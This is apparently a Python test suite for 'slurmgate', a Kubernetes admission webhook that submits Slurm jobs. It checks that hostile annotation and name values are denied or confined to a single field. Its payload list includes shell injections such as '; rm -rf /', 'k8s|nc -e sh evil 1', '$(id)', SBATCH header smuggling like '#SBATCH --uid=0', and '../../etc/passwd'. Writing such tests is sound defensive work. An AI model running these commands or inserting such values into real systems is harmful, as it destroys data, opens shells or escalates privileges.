"""Annotation values aimed at injection, through the full admission path (Admitter.review with
a capturing fake submit, then dialects.submit_body in every dialect).

The contract: the job script is always PLACEHOLDER_SCRIPT; an annotation value is either
denied with its field named, or passed verbatim into the one JSON field it maps to, and
nowhere else. Options outside that mapping never appear.
"""

from __future__ import annotations

import asyncio
import base64
import dataclasses
import json
import re
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from slurmgate import contract
from slurmgate.slurm import DIALECTS, PLACEHOLDER_SCRIPT, JobSpec, dialects
from slurmgate.webhook.admission import Admitter
from slurmgate.webhook.config import Settings
from tests.unit.fakes import FakeSubmit, marked_pod, node_map, review

# annotation -> (JobSpec attribute, submit-body field); the only place a value may go
FIELD = {
    contract.A_PARTITION: ("partition", "partition"),
    contract.A_QOS: ("qos", "qos"),
    contract.A_ACCOUNT: ("account", "account"),
    contract.A_CONSTRAINT: ("constraint", "constraints"),
    contract.A_TIME_LIMIT: ("time_limit_minutes", "time_limit"),
    contract.A_PRIORITY: ("nice", "nice"),
}
# every key a submit body may carry (both dialects)
ALLOWED_JOB_KEYS = {
    "name", "comment", "minimum_cpus_per_node", "tasks", "requeue", "current_working_directory",
    "script", "shared", "minimum_nodes", "maximum_nodes", "memory_per_node", "environment",
    "tres_per_node", "time_limit", "exclusive", "nodes", "gres", "partition", "qos", "account",
    "constraints", "nice", "standard_output", "standard_error",
}

PAYLOADS = [
    "; rm -rf /", "k8s; rm -rf /", "k8s && reboot", "k8s|nc -e sh evil 1", "$(id)", "${IFS}",
    "`id`", "k8s`id`", "k8s\n#SBATCH --uid=0", "\n#SBATCH --wrap=id", "#SBATCH -p hpc",
    "k8s\r\n#SBATCH --exclusive=user", "k8s\x00hpc", "k8s\t--qos=high", "--partition=hpc",
    "-p hpc", "k8s --export=ALL", "a" * 65, "a" * 257, "a" * 100_000, "1" * 17,
    "\uff4b8s", "k8\u0455", "k8s\u200b", "k8s\u202e", "\u2170", "١٢٣", "k8s'", 'k8s"', "k8s\\",
    "../../etc/passwd", "%n%s%x", "k8s\x1b[2J", "", " ", "k8s ", "k8s\n",
    # values that are valid for some fields: must reach exactly their field, verbatim
    "k8s", "hpc", "high", "ml-team", "a100&[rack1|rack2]", "(a|b)*2", "10", "1-0", "2:00:00",
    "-100", "+5", "a" * 64,
]


def admit(pod: dict[str, Any]) -> tuple[dict[str, Any], list[JobSpec]]:
    sub = FakeSubmit()
    nm = node_map()
    a = Admitter(sub, lambda: nm, Settings())
    return asyncio.run(a.review(review(pod))), sub.specs


def strings(obj: Any) -> list[str]:
    if isinstance(obj, str):
        return [obj]
    if isinstance(obj, dict):
        return [s for k, v in obj.items() for s in [k, *strings(v)]]
    if isinstance(obj, list):
        return [s for v in obj for s in strings(v)]
    return []


def leaf_strings(obj: Any) -> list[str]:
    if isinstance(obj, str):
        return [obj]
    if isinstance(obj, dict):
        return [s for v in obj.values() for s in leaf_strings(v)]
    if isinstance(obj, list):
        return [s for v in obj for s in leaf_strings(v)]
    return []


def bodies(spec: JobSpec) -> list[dict[str, Any]]:
    return [dialects.submit_body(d, spec) for d in DIALECTS.values()]


def check(key: str, value: str) -> None:
    pod = marked_pod(**{key: value})
    out, specs = admit(pod)
    resp = out["response"]
    if not resp["allowed"]:
        assert specs == [], "denied, but a job was submitted"
        msg = resp["status"]["message"]
        assert msg.startswith("slurmgate: ")
        if key != contract.A_PARTITION or "does not exist" not in msg:
            assert f"metadata.annotations[{key}]" in msg, msg
        else:  # a well-formed but unknown partition is named by its value
            assert repr(value[:64]) in msg or value[:64] in msg
        return
    (spec,) = specs
    attr, field = FIELD[key]
    got = getattr(spec, attr)
    if attr in ("time_limit_minutes", "nice"):
        assert isinstance(got, int)  # parsed, never text
    else:
        assert got == value  # verbatim
    # no other spec field took the value
    for name in ("partition", "qos", "account", "constraint"):
        if name != attr and getattr(spec, name) is not None:
            assert getattr(spec, name) in ("k8s",), (name, getattr(spec, name))
    assert spec.name == f"{contract.JOB_NAME_PREFIX}default/p"
    assert contract.claim_from_comment(spec.comment) and spec.comment.endswith(" pod=default/p")
    scripts = []
    for body in bodies(spec):
        job = body["job"]
        assert set(job) <= ALLOWED_JOB_KEYS, set(job) - ALLOWED_JOB_KEYS
        assert set(body) <= {"job", "script"}
        script = body.get("script", job.get("script"))
        scripts.append(script)
        assert script == PLACEHOLDER_SCRIPT
        if attr in ("partition", "qos", "account", "constraint"):
            assert job[field] == value
    # the value changes its one field and nothing else (compared with the option unset)
    for new, base in zip(bodies(spec), bodies(dataclasses.replace(spec, **{attr: None})),
                         strict=True):
        changed = {k for k in set(new["job"]) | set(base["job"])
                   if new["job"].get(k) != base["job"].get(k)}
        assert changed == {field}, changed
        assert new.get("script") == base.get("script")
    assert scripts[0] == scripts[1] == PLACEHOLDER_SCRIPT
    # the patch only gates, tolerates our taint and annotates: nothing of the value goes back
    # into the Pod
    ops = json.loads(base64.b64decode(resp["patch"]))
    for op in ops:
        assert op["path"].startswith(("/metadata/annotations", "/spec/schedulerName",
                                      "/spec/schedulingGates", "/spec/tolerations",
                                      "/metadata/labels")), op
        if op["path"].startswith("/metadata/labels"):  # only our claim, a token we made
            labels = op["value"] if op["path"] == "/metadata/labels" else {
                contract.CLAIM_LABEL: op["value"]}
            assert op["path"] in ("/metadata/labels", "/metadata/labels/slurmgate.io~1claim")
            assert list(labels) == [contract.CLAIM_LABEL], op
            assert re.fullmatch(r"[0-9a-f]{32}", labels[contract.CLAIM_LABEL]), op
        if op["path"].startswith("/spec/tolerations"):
            assert op["value"] in ([contract.TOLERATION], contract.TOLERATION), op
        # compare with the values the patch carries (not dict keys such as the gate's "name"),
        # except those we write ourselves for every Pod (gate, scheduler, state, ids, times)
        ours = {"k8s", "", contract.SCHEDULER_NAME, contract.GATE, "PENDING"}
        assert value not in leaf_strings(op.get("value")) or value in ours or (
            value.isdigit()), op


@pytest.mark.parametrize("key", list(FIELD))
@pytest.mark.parametrize("value", PAYLOADS, ids=lambda v: repr(v)[:30])
def test_injection_payloads(key: str, value: str) -> None:
    check(key, value)


def test_shell_and_sbatch_payloads_are_all_denied() -> None:
    dangerous = [p for p in PAYLOADS if any(c in p for c in ";&|$`\n\r\x00#'\"\\ \t")
                 and p not in ("a100&[rack1|rack2]", "(a|b)*2")]
    for key in FIELD:
        for value in dangerous:
            out, specs = admit(marked_pod(**{key: value}))
            assert out["response"]["allowed"] is False, (key, value)
            assert specs == []


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(key=st.sampled_from(list(FIELD)),
       value=st.text(max_size=80) | st.text(alphabet="k8s;$`()[]|&#\n\\- \x00*:,.+", max_size=40))
def test_random_values_denied_or_verbatim_in_their_field(key: str, value: str) -> None:
    check(key, value)


def test_status_annotations_cannot_steer_the_job() -> None:
    pod = marked_pod(**{contract.A_JOB_ID: "1; scancel -u root", contract.A_CLAIM: "stolen",
                        contract.A_SLURM_NODE: "n1"})
    out, specs = admit(pod)
    (spec,) = specs
    ann = json.loads(base64.b64decode(out["response"]["patch"]))
    claim = contract.claim_from_comment(spec.comment)
    assert claim != "stolen" and len(claim or "") == 32
    assert not any(op.get("value") in ("1; scancel -u root", "n1") for op in ann)
    for body in bodies(spec):
        assert body.get("script", body["job"].get("script")) == PLACEHOLDER_SCRIPT


@pytest.mark.parametrize("field", ["name", "generateName"])
def test_names_aimed_at_injection_are_refused(field: str) -> None:
    # the apiserver validates names only after admission: we refuse them before any submit
    pod = marked_pod()
    pod["metadata"][field] = "p\n#SBATCH --uid=0 $(id)"
    out, specs = admit(pod)
    assert specs == []
    assert out["response"]["allowed"] is False
    assert out["response"]["status"]["reason"] == "InvalidObject"
